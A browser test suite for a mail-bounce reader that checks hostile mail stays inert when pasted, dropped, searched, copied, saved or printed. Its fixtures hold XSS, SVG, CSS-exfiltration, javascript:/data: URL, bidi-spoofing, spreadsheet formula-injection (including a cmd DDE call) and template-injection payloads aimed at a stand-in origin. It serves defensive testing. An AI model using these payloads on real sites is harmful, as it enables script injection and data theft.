/**
 * Hostile mails, each through every way in and out: pasted, dropped, dragged,
 * copied, saved, printed, looked up. Nothing of them runs, nothing is asked
 * for, and what is taken away is words wherever it is pasted. The same in
 * Chromium and in Firefox.
 */

import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { inflateSync } from "node:zlib";
import { dsn, THRESHOLD, WAY, withWay } from "./bounces.js";
import { DIST, drop, ENGINES, paste } from "./browser.js";
import { serve } from "./server.js";

/** Stands in everything that a hostile mail says. */
const MARKER = "zq7planted";
const UNKNOWN = "550 5.0.0 The gnome at the gate says no";
/** What would tell that something ran. @param {string} by */
const ran = (by) => `document.documentElement.dataset.ran='${by}'`;

/**
 * What hostile mails hold, each on one line.
 *
 * @type {Record<string, (to: string) => string>}
 */
const HOSTILE = {
  "scripts and event handlers": (to) =>
    `${MARKER}<script>${ran("script")};fetch("${to}script")</script><script src="${to}src.js"></script><img src="${to}img" onerror="${ran("img")}"><input autofocus onfocus="${ran("focus")}"><details open ontoggle="${ran("toggle")}">x</details><video src="${to}video" poster="${to}poster" onerror="${ran("video")}" autoplay></video><body onload="${ran("body")}" onpageshow="${ran("show")}">`,
  SVG: (to) =>
    `${MARKER}<svg onload="${ran("svg")}"><image href="${to}svg"/><script>${ran("svg script")}</script><animate onbegin="${ran("animate")}" attributeName="x"/><use href="${to}use#x"/><foreignObject><img src="${to}foreign"></foreignObject><a href="javascript:${ran("svg link")}"><text>x</text></a></svg><math><mtext><img src="${to}math" onerror="${ran("math")}"></mtext></math>`,
  CSS: (to) =>
    `${MARKER}<style>@import "${to}import.css"; * { background: url(${to}style) !important; display: none !important }</style><link rel="stylesheet" href="${to}sheet.css"><p style="background:url(${to}css);position:fixed;inset:0">${MARKER}</p><font face="${MARKER}" style="font-family:'${MARKER}'">x</font>`,
  "data and javascript addresses": (to) =>
    `${MARKER}<a href="javascript:${ran("href")}" ping="${to}ping">x</a><a href="data:text/html,<script>parent.${ran("data")}</script>">x</a><iframe src="javascript:parent.${ran("iframe")}"></iframe><iframe src="data:text/html,<script>parent.${ran("frame")}</script>"></iframe><object data="data:text/html,<script>${ran("object")}</script>"></object><form action="javascript:${ran("form")}"><button autofocus>x</button></form> javascript:${ran("bare")} data:text/html,${MARKER} vbscript:${MARKER}`,
  "frames, forms and what is fetched ahead": (to) =>
    `${MARKER}<iframe src="${to}iframe"></iframe><iframe srcdoc="<script>parent.${ran("srcdoc")}</script><img src='${to}srcdoc'>"></iframe><form action="${to}form" id="f"><input autofocus onfocus="f.submit()"></form><meta http-equiv="refresh" content="0;url=${to}refresh"><base href="${to}base/"><object data="${to}object"></object><embed src="${to}embed"><link rel="prefetch" href="${to}prefetch"><link rel="preload" as="image" href="${to}preload"><link rel="dns-prefetch" href="${to}"><link rel="preconnect" href="${to}"><link rel="manifest" href="${to}manifest"><link rel="icon" href="${to}icon">`,
  "directions and look-alikes": (to) =>
    `${MARKER} \u202Egpj.exe\u202C \u2066\u2067x\u2069 \u200B\u00AD\uFEFF \u0430pple.example.org ex\u0430mple.org ${to}\u202E`,
  formulas: (to) => `=HYPERLINK("${to}formula";"${MARKER}")+cmd|' /C ${MARKER}'!A0`,
  Markdown: (to) =>
    `![${MARKER}](${to}picture) [${MARKER}](javascript:${ran("link")}) <${to}auto> ${to}bare www.example.net/${MARKER} @${MARKER} #1 \`${MARKER}\` \`\`\`${MARKER} ~~~ **${MARKER}** | --- | <img src="${to}tag"> &lt;img&gt; [${MARKER}]: ${to}reference ${"$"}${"$"}${MARKER}${"$"}${"$"}`,
  templates: () =>
    `{n} {recipient} {title} {{7*7}} ${"$"}{7*7} $& $1 $\` <%= 7*7 %> %s %00 \\u003cimg\\u003e ${MARKER}`,
};

/** What may begin a formula. */
const BEGINS = ["=", "+", "-", "@", "\t="];

/**
 * A report of two recipients, one for a known reason, the other for none, in
 * every field of which the mail says its own.
 *
 * @param {string} words
 */
function report(words) {
  const [, plus, minus, at, tab] = BEGINS.map((sign) => words.replace(/^=?/, sign));
  const from = words.replace(/[<>@]/g, " ");
  return withWay(
    dsn(
      [
        { recipient: `${words}@example.org`, reply: `${THRESHOLD} ${words}` },
        { recipient: `${minus}@example.org`, reply: `${THRESHOLD} ${minus}` },
        { recipient: `${at}@example.org`, reply: `${UNKNOWN} ${words}\n ${plus}` },
      ],
      { html: `<p>${THRESHOLD}</p>${words}`, subject: words, from: `${from} <eva@example.com>` },
    ).replace("Your message could not be delivered.", [words, plus, minus, at, tab].join("\n")),
    WAY.replace("from mx.example.com", `from ${words}`).replace("spf=pass", `spf=${words}`),
  );
}

/** Every way in: what it does with a mail. @type {Record<string, (page: import("./browser.js").Page, words: string) => Promise<void>>} */
const WAYS = {
  pasted: (page, words) => paste(page, { plain: report(words) }),
  "pasted as a line": (page, words) => paste(page, { plain: `${words}\n${THRESHOLD} ${words}\n${words}` }),
  "pasted as markup": (page, words) => paste(page, { html: `<p>${words}</p><p>${THRESHOLD} ${words}</p>` }),
  "dropped as a mail": (page, words) => drop(page, [{ name: `${words.slice(0, 200)}.eml`, bytes: report(words) }]),
  "dropped as a page": (page, words) =>
    drop(page, [{ name: `${words.slice(0, 200)}.html`, bytes: `<body>${words}<p>${THRESHOLD}</p></body>` }]),
  "dragged as text": (page, words) =>
    page.evaluate(
      ([plain, html]) => {
        const dataTransfer = new DataTransfer();
        dataTransfer.setData("text/plain", plain);
        dataTransfer.setData("text/html", html);
        document.body.dispatchEvent(new DragEvent("drop", { dataTransfer, bubbles: true, cancelable: true }));
      },
      [`${THRESHOLD} ${words}`, `<p>${THRESHOLD} ${words}</p>`],
    ),
};

for (const [name, launch] of Object.entries(ENGINES)) {
  describe(name, () => run(launch));
}

/** @param {(typeof ENGINES)[string]} launch */
function run(launch) {
  /** @type {import("./browser.js").Engine} */
  let engine;
  /** @type {import("./browser.js").Page} */
  let page;
  /** @type {Awaited<ReturnType<typeof serve>>} */
  let site;
  /** Another origin, which counts what reaches it. @type {Awaited<ReturnType<typeof serve>>} */
  let elsewhere;
  /** What the page itself asked for, whoever would have answered. @type {string[]} */
  const asked = [];
  before(async () => {
    engine = await launch("en-US");
    site = await serve(DIST);
    elsewhere = await serve(DIST);
    page = await engine.page({ locale: "en-US" });
    page.on("request", (request) => {
      // The page's own worker, taken anew when the field is cleared, and a font that Firefox has within itself.
      if (!/^(blob:|data:font)/.test(request.url())) asked.push(request.url());
    });
    await open();
  });
  after(async () => {
    await engine.stop();
    await site.close();
    await elsewhere.close();
  });

  /** @param {string} [path] */
  async function open(path = "") {
    await page.goto(site.url + path);
    await page.waitForSelector("html[data-ready]");
    await page.evaluate(listenIn);
    forget();
  }
  function forget() {
    for (const list of [asked, site.requests, elsewhere.requests]) list.length = 0;
  }
  /** @param {string} what */
  async function nothingHappened(what) {
    const found = await page.evaluate(lookAround, MARKER);
    assert.equal(found.ran, null, `${what}: ran`);
    assert.deepEqual(found.odd, [], `${what}: of the mail there is text alone`);
    // The browser itself looks, when it likes, whether its service worker is the newest.
    const requests = [...asked, ...site.requests, ...elsewhere.requests].filter((one) => !one.endsWith("/sw.js"));
    assert.deepEqual(requests, [], `${what}: was asked for`);
  }

  for (const [mail, of] of Object.entries(HOSTILE)) {
    test(`${mail}: in by every way, and out by every way`, async () => {
      const words = of(elsewhere.url);
      for (const [way, put] of Object.entries(WAYS)) {
        const what = `${mail}, ${way}`;
        await page.evaluate(() => document.getElementById("clear")?.click());
        const before = await page.evaluate(() => [location.href, history.length, document.title]);
        await put(page, words);
        await page.waitForSelector("#results .verdict");
        const found = await page.evaluate(() => document.getElementById("beside")?.textContent ?? "");
        assert.ok(
          way === "pasted as markup" || way === "dropped as a page" || found.includes(MARKER),
          `${what}: shown`,
        );
        if (way === "pasted") await printed(what);
        for (const language of ["es", "en"]) await engine.select(page, "#language", language);
        const taken = await page.evaluate(takeAll, way === "pasted" ? [true, false] : [true]);
        assert.ok(taken.length >= 7, `${what}: ${taken.length} texts`);
        for (const { kind, text } of taken) inert(kind, text, `${what}, taken as ${kind}`);
        await nothingHappened(what);
        assert.deepEqual(await page.evaluate(() => [location.href, history.length, document.title]), before, what);
      }
    });

    test(`${mail}: looked up, and in the address`, async () => {
      const words = of(elsewhere.url);
      await open("#/errors");
      await page.waitForSelector("#search");
      const type = (/** @type {string} */ query) =>
        page.evaluate((query) => {
          const field = /** @type {HTMLInputElement} */ (document.getElementById("search"));
          field.value = query;
          field.dispatchEvent(new Event("input", { bubbles: true }));
        }, query);
      for (const query of [words, `${words} 5.7.705`, `5.7.705 ${words}`]) {
        await type(query);
        await nothingHappened(`${mail}, looked up`);
      }
      await page.evaluate(() => document.getElementById("search")?.focus());
      await paste(page, { plain: `${words} 5.7.705`, html: `<b>${words}</b> 5.7.705` });
      await nothingHappened(`${mail}, pasted into the search`);
      await type(words);
      // What is not found is read as a bounce.
      await page.evaluate(() => /** @type {HTMLElement | null} */ (document.querySelector(".read button"))?.click());
      await page.waitForSelector("#results .verdict");
      await nothingHappened(`${mail}, looked up and read`);
      for (const hash of [words, `/e/${words}`, `/errors${words}`, `/e/${encodeURIComponent(words)}/x`]) {
        // The page hears of it first: it was listening before.
        await page.evaluate((hash) => {
          const heard = new Promise((done) => addEventListener("hashchange", () => done(null), { once: true }));
          location.hash = hash;
          return heard;
        }, hash);
        await nothingHappened(`${mail}, in the address`);
      }
      await open(`?language=${encodeURIComponent(words)}#${encodeURIComponent(words)}`);
      await nothingHappened(`${mail}, in the address from the start`);
      for (const path of ["en/errors/", "es/errors/exchange-online/tenant-threshold/", "en/help/"]) {
        await page.goto(`${site.url}${path}?x=${encodeURIComponent(words)}#${encodeURIComponent(words)}`);
        assert.equal(await page.evaluate(() => document.documentElement.dataset.ran ?? null), null);
        assert.deepEqual(elsewhere.requests, []);
      }
      await open();
    });
  }

  test("what looks around does see what runs, what is odd and what is asked for", async () => {
    await page.evaluate((to) => {
      const results = /** @type {HTMLElement} */ (document.getElementById("results"));
      const link = document.createElement("a");
      link.href = `${to}zq7planted`;
      results.append(document.createElement("img"), link);
      document.documentElement.dataset.ran = "by hand";
    }, elsewhere.url);
    const { ran, odd } = await page.evaluate(lookAround, MARKER);
    assert.equal(ran, "by hand");
    assert.deepEqual(odd, ["img", `a href=${elsewhere.url}${MARKER}`]);
    await page.goto(elsewhere.url);
    assert.ok(asked.includes(elsewhere.url) && elsewhere.requests.includes("GET /"));
    await open();
  });

  /** @param {string} what */
  async function printed(what) {
    const pdf = objectsOf(Buffer.from(await page.pdf()));
    assert.match(pdf, /^%PDF/);
    assert.doesNotMatch(pdf, /\/(JavaScript|JS|Launch|SubmitForm|GoToR|EmbeddedFile)\b/, what);
    const links = [...pdf.matchAll(/\/URI\s*\(([^)]*)/g)].map(([, uri]) => uri);
    assert.deepEqual(
      links.filter((uri) => !uri.startsWith("https://") || uri.includes(MARKER)),
      [],
      what,
    );
  }
}

/**
 * What a PDF consists of, without what is drawn: in compressed drawings and fonts, any three letters come up by chance.
 *
 * @param {Buffer} pdf
 */
function objectsOf(pdf) {
  return pdf.toString("latin1").replace(/(\d obj\b.*?)\bstream\r?\n(.*?)endstream/gs, (_, object, stream) => {
    if (!/\/ObjStm\b/.test(object)) return object;
    return object + inflateSync(Buffer.from(stream, "latin1")).toString("latin1");
  });
}

/** In the page: keeps what would go to the clipboard and to the disk. */
function listenIn() {
  /** @type {{ kind: string, text: Promise<string> }[]} */
  const taken = [];
  /** @type {Map<string, Blob>} */
  const blobs = new Map();
  const make = URL.createObjectURL;
  URL.createObjectURL = (blob) => {
    const url = make(blob);
    blobs.set(url, /** @type {Blob} */ (blob));
    return url;
  };
  const click = HTMLAnchorElement.prototype.click;
  HTMLAnchorElement.prototype.click = function () {
    const blob = blobs.get(this.href);
    if (this.download && blob) taken.push({ kind: this.download, text: blob.text() });
    else click.call(this);
  };
  navigator.clipboard.writeText = async (text) => {
    taken.push({ kind: "", text: Promise.resolve(text) });
  };
  Object.assign(window, { taken });
}

/**
 * In the page: presses every button that gives something away.
 *
 * @param {boolean[]} wholes Whether for the whole text, for the redacted one.
 */
async function takeAll(wholes) {
  /** @type {{ kind: string, text: Promise<string> }[]} */
  const taken = /** @type {any} */ (window).taken;
  /** @type {{ kind: string, text: string }[]} */
  const out = [];
  for (const whole of wholes) {
    for (const button of document.querySelectorAll("[data-copy], [data-save], button.copy")) {
      const box = /** @type {HTMLInputElement | null} */ (document.getElementById("copy-whole"));
      if (box) box.checked = whole;
      taken.length = 0;
      /** @type {HTMLElement} */ (button).click();
      const end = performance.now() + 20_000;
      while (taken.length === 0 && performance.now() < end) await new Promise((done) => setTimeout(done, 5));
      if (taken.length === 0) throw new Error(`${button.outerHTML} gives nothing`);
      out.push({
        kind: taken[0].kind || button.getAttribute("data-copy") || "command",
        text: await taken[0].text,
      });
    }
  }
  return out;
}

/**
 * In the page: whether something ran, and every element that is not of the
 * page's own making.
 *
 * @param {string} marker
 */
function lookAround(marker) {
  const own = new Set(
    "a article aside b bdi blockquote br button circle code dd details div dl dt em fieldset figure g h1 h2 h3 header input label legend li line main mark nav ol option p path pre rect section select span strong summary svg text textarea title tspan ul wbr".split(
      " ",
    ),
  );
  /** @type {string[]} */
  const odd = [];
  for (const place of ["results", "beside", "note", "status"]) {
    for (const element of document.querySelectorAll(`#${place} *`)) {
      if (!own.has(element.localName)) odd.push(element.localName);
      for (const { name, value } of element.attributes) {
        const addresses = /^(href|src|srcset|action|formaction|ping|poster|data|style|xlink:href)$/.test(name);
        if (/^on/.test(name) || (addresses && (value.includes(marker) || !/^(#|https:\/\/)/.test(value))))
          odd.push(`${element.localName} ${name}=${value}`);
      }
    }
  }
  return { ran: document.documentElement.dataset.ran ?? null, odd };
}

/**
 * What was taken away is words: no link, picture, name or formula is made of
 * it, and it hides nothing.
 *
 * @param {string} kind
 * @param {string} text
 * @param {string} what
 */
function inert(kind, text, what) {
  if (kind.includes("json")) {
    assert.ok(Array.isArray(JSON.parse(text)), what);
  } else {
    assert.doesNotMatch(text, /[\u202A-\u202E\u2066-\u2069\u200B]/, `${what}: hides something`);
  }
  if (kind === "command") assert.ok(!text.includes(MARKER), `${what}: ${text}`);
  if (/markdown|\.md$/.test(kind)) assert.ok(!withoutCode(text).includes(MARKER), `${what}: ${withoutCode(text)}`);
  else {
    // But for the marks of lists and the lines below headings, which are the page's own.
    for (const line of text.split("\n")) assert.doesNotMatch(line, /^([=+@\t\r]|-(?! |-+$))/, what);
  }
}

/**
 * What Markdown makes something of: everything but code.
 *
 * @param {string} text
 */
function withoutCode(text) {
  /** @type {string[]} */
  const left = [];
  let fence = "";
  for (const line of text.split("\n")) {
    const found = /^ *(`{3,})([^`]*)$/.exec(line);
    if (fence) {
      if (found?.[2] === "" && found[1].length >= fence.length) fence = "";
    } else if (found) fence = found[1];
    else if (!/^ {4}/.test(line)) left.push(line.replace(/(?<![`\\])(`+)(?!`).*?(?<!`)\1(?!`)/g, ""));
  }
  return left.join("\n");
}
